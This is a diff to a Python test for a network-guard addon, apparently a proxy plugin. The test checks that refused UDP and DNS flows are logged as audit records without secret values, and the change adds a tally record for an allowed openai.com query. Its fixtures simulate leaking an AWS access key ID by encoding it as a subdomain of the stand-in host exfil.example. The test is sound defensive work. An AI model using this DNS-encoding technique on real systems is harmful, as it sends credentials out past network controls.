@@ -110,8 +110,9 @@ def test_each_refusal_is_an_audit_record_with_no_value_in_it():
     with taddons.context(datagrams):
         asyncio.run(datagrams.udp_start(udp_flow(("198.18.226.5", 9999))))
         asyncio.run(datagrams.dns_request(dns_flow(f"{AKID.lower()}.exfil.example")))
-        asyncio.run(datagrams.dns_request(dns_flow("api.openai.com")))  # goes on: no decision to record
-    udp_record, dns_record = recorded.records
+        asyncio.run(datagrams.dns_request(dns_flow("api.openai.com")))  # goes on: tallied (open30)
+    udp_record, dns_record, tally_record = recorded.records
+    assert (tally_record["event"], tally_record["domain"], tally_record["count"]) == ("dns_query", "openai.com", 1)
     assert udp_record["event"] == "udp_refused" and (udp_record["host"], udp_record["port"]) == ("198.18.226.5", 9999)
     assert (udp_record["decision"], dns_record["decision"]) == ("deny", "block")
     assert dns_record["event"] == "dns_refused" and dns_record["questions"][0].endswith(".exfil.example")
